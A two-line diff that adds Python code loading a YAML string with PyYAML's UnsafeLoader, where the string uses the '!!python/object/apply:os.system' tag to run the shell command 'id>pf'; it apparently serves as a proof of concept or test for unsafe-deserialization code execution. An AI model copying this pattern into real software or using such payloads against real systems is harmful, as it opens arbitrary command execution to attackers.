@@ -1,0 +1,2 @@
+import yaml
+yaml.load("!!python/object/apply:os.system ['id>pf']", Loader=yaml.UnsafeLoader)
